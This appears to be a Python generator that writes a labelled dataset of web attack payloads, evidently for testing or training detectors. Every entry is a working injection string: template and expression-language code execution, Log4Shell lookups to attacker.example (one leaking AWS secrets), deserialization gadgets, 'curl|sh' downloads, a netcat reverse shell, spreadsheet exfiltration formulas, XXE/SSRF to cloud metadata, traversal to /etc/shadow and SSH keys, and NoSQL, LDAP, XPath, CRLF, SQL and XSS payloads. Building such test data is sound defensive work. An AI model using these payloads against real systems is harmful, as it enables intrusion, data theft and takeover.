add("code", "handlebars-constructor", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")
add("code", "pug-unescaped-code", "#{global.process.mainModule.require('child_process').execSync('id')}")
add("code", "nunjucks-range-constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}")
add("code", "ejs-outputfunctionname", "{\"settings\":{\"view options\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');s\"}}}")
add("code", "thymeleaf-preprocessing", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x")
add("code", "razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")")
add("code", "hugo-readfile", "{{ readFile \"/etc/passwd\" }}")
add("code", "java-el-runtime", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}")
add("code", "java-el-scope", "${applicationScope}")
add("code", "jsf-el-deferred", "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}")
add("code", "ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}")
add("code", "ognl-struts-member-access", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('touch /tmp/o'))}")
add("code", "ognl-processbuilder", "${(#p=new java.lang.ProcessBuilder({'sh','-c','id'})).(#p.start())}")
add("code", "spel-type-runtime", "T(java.lang.Runtime).getRuntime().exec('id')")
add("code", "spel-hash-brace", "Pantone #{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl attacker.example|sh'})}")
add("code", "spel-file-read", "#{new java.util.Scanner(new java.io.File('/etc/passwd')).useDelimiter('\\\\Z').next()}")
add("code", "php-eval-system", "system('id');")
add("code", "php-eval-backtick-echo", "12/50\";echo `cat /etc/passwd`;//")
add("code", "php-assert-string", "'.phpinfo().'")
add("code", "python-eval-import", "__import__('os').system('id')")
add("code", "python-eval-subprocess", "__import__('subprocess').check_output(['cat','/etc/passwd'])")
add("code", "python-exec-string-break", "300'+__import__('os').popen('id').read()+'")
add("code", "node-eval-child-process", "require('child_process').execSync('id').toString()")
add("code", "node-eval-string-break", "');require('child_process').exec('curl attacker.example|sh');//")
add("code", "ruby-eval-kernel", "Kernel.exec('id')")
add("code", "log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}")
add("code", "log4shell-in-job-note", "Ticket closed ${jndi:rmi://198.51.100.11:1099/Exploit}")
add("code", "log4shell-dns-env", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/x}")
add("code", "log4shell-lower-obfuscation", "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}dap://attacker.example/x}")
add("code", "log4shell-default-obfuscation", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/o}")
add("code", "log4shell-env-default", "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//attacker.example/z}")
add("code", "log4shell-sys-leak", "${jndi:ldap://attacker.example/${sys:java.version}/${hostName}}")
add("code", "log4shell-scheme-lower", "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/q}")
add("code", "proto-pollution-json", "{\"__proto__\":{\"isAdmin\":true}}")
add("code", "proto-pollution-constructor", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}")
add("code", "proto-pollution-query", "__proto__[isAdmin]=true")
add("code", "proto-pollution-dotted", "settings.__proto__.shell=/proc/self/exe")
add("code", "proto-pollution-qs-constructor", "constructor[prototype][execArgv][]=--eval=require('child_process').execSync('id')")
add("code", "csv-dde-cmd", "=cmd|'/c calc'!A0")
add("code", "csv-dde-plus", "+cmd|'/c powershell IEX(wget attacker.example/p)'!A0")
add("code", "csv-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"View proof 12/50\")")
add("code", "csv-webservice", "=WEBSERVICE(\"https://attacker.example/x?\"&C2)")
add("code", "csv-importxml-sheets", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A2),\"//a\")")
add("code", "csv-at-sum-dde", "@SUM(1+1)*cmd|' /C calc'!A0")
add("code", "csv-minus-dde", "-2+3+cmd|' /C notepad'!'A1'")
add("code", "xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE job [<!ENTITY f SYSTEM \"file:///etc/passwd\">]><job><note>&f;</note></job>")
add("code", "xxe-ssrf-metadata", "<?xml version=\"1.0\"?><!DOCTYPE e [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><edition>&m;</edition>")
add("code", "xxe-parameter-oob", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY % r SYSTEM \"http://attacker.example/ev.dtd\"> %r;]><d/>")
add("code", "xinclude-file", "<inventory xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></inventory>")
add("code", "xxe-svg-upload", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hosts\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>")
add("code", "yaml-python-apply", "!!python/object/apply:os.system [\"id\"]")
add("code", "yaml-python-new-subprocess", "job: !!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]")
add("code", "yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]")
add("code", "yaml-python-popen", "!!python/object/apply:subprocess.Popen [[\"sh\", \"-c\", \"curl attacker.example|sh\"]]")
add("code", "pickle-protocol0-text", "cposix\nsystem\n(S'id'\ntR.")
add("code", "jackson-polymorphic-jndi", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example/x\",\"autoCommit\":true}]")
add("code", "fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/Exploit\",\"autoCommit\":true}")
add("code", "jsonnet-type-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}")
add("code", "php-object-injection", "O:8:\"UserPref\":2:{s:4:\"role\";s:5:\"admin\";s:7:\"logfile\";s:19:\"/var/www/html/x.php\";}")
add("code", "phar-wrapper-trigger", "phar://uploads/proofs/harbour_12-50.jpg/x")

# ---------------------------------------------------------------- nosqli
add("nosqli", "plain-ne-json", "{\"$ne\": null}")
add("nosqli", "login-gt-empty", "{\"$gt\": \"\"}")
add("nosqli", "query-bracket-ne", "password[$ne]=x")
add("nosqli", "query-bracket-regex", "email[$regex]=^admin")
add("nosqli", "query-bracket-gt", "edition_no[$gt]=0")
add("nosqli", "regex-prefix-extract", "{\"$regex\": \"^a.*\", \"$options\": \"si\"}")
add("nosqli", "where-sleep", "{\"$where\": \"sleep(5000) || true\"}")
add("nosqli", "where-this-leak", "{\"$where\": \"this.password.match(/^p/) != null\"}")
add("nosqli", "where-string-break", "12/50'; return true; var x='")
add("nosqli", "where-or-true", "' || '1'=='1")
add("nosqli", "where-string-sleep", "Arches'; sleep(5000); var d='")
add("nosqli", "or-array", "{\"$or\": [{\"role\": \"admin\"}, {\"_id\": {\"$exists\": true}}]}")
add("nosqli", "nin-empty", "{\"$nin\": []}")
add("nosqli", "in-bypass", "{\"username\": {\"$in\": [\"admin\", \"root\", \"owner\"]}, \"password\": {\"$ne\": \"\"}}")
add("nosqli", "expr-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(5000);return true}\", \"args\": [], \"lang\": \"js\"}}}")
add("nosqli", "exists-true", "token[$exists]=true")
add("nosqli", "pantone-regex-catastrophic", "{\"pantone\": {\"$regex\": \"^(a+)+$\"}}")
add("nosqli", "lookup-pipeline", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]")
add("nosqli", "mapreduce-js", "{\"mapReduce\": \"editions\", \"map\": \"function(){emit(1, db.users.findOne())}\", \"reduce\": \"function(k,v){return v}\"}")
add("nosqli", "query-bracket-where", "filter[$where]=this.is_admin==true")
add("nosqli", "couchdb-selector-gt", "{\"selector\": {\"password\": {\"$gt\": null}}}")
add("nosqli", "elastic-query-string-wildcard", "title:* OR _exists_:password_hash")
add("nosqli", "js-function-brackets", "1; return db.getCollectionNames();")
add("nosqli", "unicode-escaped-operator", "{\"\\u0024ne\": \"x\"}")

# ---------------------------------------------------------------- crlf
add("crlf", "log-forge-login", "Proof approved\n2024-05-01T12:00:00Z INFO user=admin action=login status=success")
add("crlf", "log-forge-crlf", "4471\r\n[2024-05-01 12:00:01] AUDIT payment refund approved order=551 amount=1200.00")
add("crlf", "log-forge-urlencoded", "12/50%0a2024-05-01 INFO edition 12/50 marked as sold by owner")
add("crlf", "log-forge-json-line", "Courier note\n{\"level\":\"info\",\"user\":\"admin\",\"msg\":\"role granted\"}")
add("crlf", "log-forge-ansi-escape", "Arches 300gsm\u001b[2K\u001b[1A\rINFO all checks passed")
add("crlf", "header-set-cookie", "en%0d%0aSet-Cookie:%20session=attacker123;%20Path=/")
add("crlf", "header-set-cookie-raw", "fr\r\nSet-Cookie: studio_sid=fixated-FAKE; Domain=.example.com")
add("crlf", "header-location-redirect", "/editions/12-50%0d%0aLocation:%20https://attacker.example/")
add("crlf", "response-splitting", "x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E")
add("crlf", "response-splitting-raw", "harbour.pdf\r\n\r\n<html><script>alert(document.domain)</script></html>")
add("crlf", "header-cors-injection", "gallery%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true")
add("crlf", "header-xss-protection-off", "x%0D%0AX-XSS-Protection:%200%0D%0AContent-Security-Policy:%20script-src%20*")
add("crlf", "double-encoded-crlf", "press1%250d%250aSet-Cookie:%2520admin=1")
add("crlf", "unicode-crlf-node", "inv\u560d\u560aSet-Cookie: a=b")
add("crlf", "u-encoded-crlf", "edition%u000d%u000aX-Injected: 1")
add("crlf", "lf-only-header", "download.pdf%0aX-Accel-Redirect:%20/internal/backups/db.sql")
add("crlf", "content-disposition-filename", "proof_12-50.pdf\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>")
add("crlf", "mail-bcc-name", "Renée O'Hara\r\nBcc: list@attacker.example")
add("crlf", "mail-bcc-email", "rosa.delgado@example.com\nBcc: victims@attacker.example")
add("crlf", "mail-cc-urlencoded", "studio@example.com%0ACc:%20spam@attacker.example")
add("crlf", "mail-subject-body", "Workshop sign-up\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/login\">Confirm your booking</a>")
add("crlf", "mail-from-spoof", "Siobhán\nFrom: billing@example.com\nReply-To: pay@attacker.example")
add("crlf", "mail-to-header-add", "hi.kenji@example.org\r\nTo: everyone@attacker.example")
add("crlf", "smtp-smuggling", "Thanks!\r\n.\r\nMAIL FROM:<ceo@example.com>\r\nRCPT TO:<x@attacker.example>\r\nDATA\r\nSubject: invoice\r\n\r\npay now\r\n.\r\n")
add("crlf", "redis-inline-command", "job118\r\nFLUSHALL\r\n")
add("crlf", "http-request-smuggle-host", "x HTTP/1.1\r\nHost: internal.print.local\r\n\r\nGET /admin")
add("crlf", "cr-only-log", "Shipped\r2024-05-02 WARN tracking 1Z999AA10123456784 revoked by admin")

# ---------------------------------------------------------------- ldap-xpath
add("ldap-xpath", "ldap-plain-wildcard-close", "*)(uid=*))(|(uid=*")
add("ldap-xpath", "ldap-admin-and-true", "admin)(&)")
add("ldap-xpath", "ldap-or-objectclass", "jo*)(|(objectClass=*)")
add("ldap-xpath", "ldap-password-attr-probe", "*)(userPassword=*)")
add("ldap-xpath", "ldap-blind-prefix", "admin)(userPassword=a*")
add("ldap-xpath", "ldap-group-member", "*)(memberOf=cn=studio-admins,ou=groups,dc=print,dc=local)")
add("ldap-xpath", "ldap-null-terminate", "admin)%00")
add("ldap-xpath", "ldap-not-clause", "printer*)(!(uid=nobody)")
add("ldap-xpath", "ldap-member-name-wildcard", "Siobh*)(|(mail=*@*)")
add("ldap-xpath", "ldap-description-probe", "*)(description=*secret*")
add("ldap-xpath", "xpath-plain-or", "' or '1'='1")
add("ldap-xpath", "xpath-count-probe", "' or count(/*)=1 or 'a'='b")
add("ldap-xpath", "xpath-union-node", "']|//user/password|//x['")
add("ldap-xpath", "xpath-blind-substring", "x' or substring(//user[1]/password,1,1)='a' or 'x'='y")
add("ldap-xpath", "xpath-name-probe", "' or name(/*[1])='catalog' or '")
add("ldap-xpath", "xpath-typecase-or", "Caslon' or string-length(//member[1]/pin)>3 or 'a'='b")
add("ldap-xpath", "xpath-numeric-or", "12 or 1=1")
add("ldap-xpath", "xpath-doc-external", "x' or doc('http://attacker.example/x.xml') or '")

# ------------------------------------------------------------ templated
# (a) hand-written theme prefixes joined to hand-written payloads
PREFIXES = {
    "sqli": ["Edition 12/50 — ", "Pantone 186 C, ", "job ticket #4471: ", "Arches 300gsm "],
    "xss": ["Artist statement: ", "Shipping note: ", "Edition title “Tide Lines” ", "Workshop comment: "],
    "cmdi": ["harbour_12-50.tif", "coaster_final_v3.pdf", "invite-proof-2.png"],
}
JOIN_PAYLOADS = {
    "sqli": ["' UNION SELECT email,password_hash FROM members-- -", "' AND SLEEP(5)-- -",
             "'; DROP TABLE editions;--", "' OR '1'='1' -- "],
    "xss": ["<img src=x onerror=alert(1)>", "<svg onload=alert(document.cookie)>",
            "<script>alert(document.domain)</script>", "<iframe src=javascript:alert(1)>"],
    "cmdi": ["; id", " && cat /etc/passwd", " | nc 203.0.113.5 4444 -e /bin/sh", "$(sleep 10)"],
}
JOIN_COUNT = {"sqli": 4, "xss": 2, "cmdi": 4}

# (b) one encoding applied to a hand-written payload
ENCODE = [
    ("sqli", "note-or-true+urlencode", "12/50' OR '1'='1'-- -", "url"),
    ("sqli", "union-select+urlencode", "' UNION SELECT username,password FROM users--", "url"),
    ("sqli", "sleep+urlencode", "1' AND SLEEP(5)#", "url"),
    ("sqli", "waitfor+urlencode", "1';WAITFOR DELAY '0:0:5'--", "url"),
    ("xss", "img-onerror+urlencode", "<img src=x onerror=alert(1)>", "url"),
    ("xss", "svg-onload+urlencode", "<svg onload=alert(document.domain)>", "url"),
    ("xss", "script+html-decimal-entities", "<script>alert(1)</script>", "dec"),
    ("xss", "details-ontoggle+urlencode", "<details open ontoggle=alert(1)>", "url"),
    ("cmdi", "semicolon-id+urlencode", "proof.pdf; id", "url"),
    ("cmdi", "subst-curl+urlencode", "$(curl http://attacker.example/x|sh)", "url"),
    ("traversal", "dotdot-passwd+urlencode", "../../../../etc/passwd", "urlall"),
    ("traversal", "dotdot-win+urlencode", "..\\..\\..\\windows\\win.ini", "urlall"),
    ("traversal", "dotdot-env+double-urlencode", "../../../.env", "url2all"),
    ("traversal", "dotdot-shadow+double-urlencode", "../../../../etc/shadow", "url2all"),
    ("traversal", "dotdot-sshkey+urlencode", "../../../root/.ssh/id_rsa", "urlall"),
    ("traversal", "dotdot-webxml+urlencode", "../../WEB-INF/web.xml", "urlall"),
    ("ssrf", "aws-metadata+urlencode", "http://169.254.169.254/latest/meta-data/", "url"),
    ("ssrf", "loopback+urlencode", "http://127.0.0.1:2375/containers/json", "url"),
    ("ssrf", "gcp-metadata+urlencode", "http://metadata.google.internal/computeMetadata/v1/", "url"),
    ("ssrf", "file-scheme+urlencode", "file:///etc/passwd", "url"),
    ("ssrf", "decimal-ip+urlencode", "http://2130706433:6379/", "url"),
    ("ssrf", "ecs-creds+urlencode", "http://169.254.170.2/v2/credentials/", "url"),
    ("code", "jinja2-popen+urlencode", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "url"),
    ("code", "log4shell+urlencode", "${jndi:ldap://attacker.example/a}", "url"),
    ("code", "pickle-protocol0+base64", "cposix\nsystem\n(S'curl attacker.example|sh'\ntR.", "b64"),
    ("nosqli", "ne-null+urlencode", "{\"$ne\": null}", "url"),
    ("nosqli", "where-sleep+urlencode", "{\"$where\": \"sleep(5000)\"}", "url"),
    ("nosqli", "gt-empty+urlencode", "{\"$gt\": \"\"}", "url"),
    ("crlf", "set-cookie-raw+urlencode", "x\r\nSet-Cookie: sid=attacker", "url"),
    ("crlf", "log-forge+urlencode", "ok\n2024-05-01 INFO admin login success", "url"),
    ("crlf", "mail-bcc+urlencode", "a@example.com\r\nBcc: x@attacker.example", "url"),
    ("ldap-xpath", "ldap-wildcard+urlencode", "*)(uid=*))(|(uid=*", "url"),
    ("ldap-xpath", "xpath-or+urlencode", "' or '1'='1", "url"),
]


def encode(v, how):
    if how == "url":
        return urllib.parse.quote(v, safe="")
    if how == "urlall":
        return "".join("%%%02x" % b if chr(b) in "./\\" else chr(b) for b in v.encode())
    if how == "url2all":
        return "".join("%%25%02x" % b if chr(b) in "./\\" else chr(b) for b in v.encode())
    if how == "dec":
        return "".join("&#%d;" % ord(c) for c in v)
    if how == "b64":
        return base64.b64encode(v.encode()).decode()
    raise ValueError(how)


def main():
    literals = list(A)
    assert len({v for _, _, v in literals}) == len(literals), "duplicate literal"
    templated = []
    for cat in ("sqli", "xss", "cmdi"):
        combos = [(p, q) for p in PREFIXES[cat] for q in JOIN_PAYLOADS[cat]]
        for p, q in rng.sample(combos, JOIN_COUNT[cat]):
            templated.append((cat, "prefix-join", p + q))
    for cat, cls, v, how in ENCODE:
        templated.append((cat, cls, encode(v, how)))
    order = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
    rows = []
    for cat in order:
        rows += [r for r in literals if r[0] == cat]
        rows += [r for r in templated if r[0] == cat]
    seen = set()
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            assert v and v not in seen, v
            seen.add(v)
            rec = {"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls,
                   "label": "attack", "value": v}
            f.write(json.dumps(rec, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
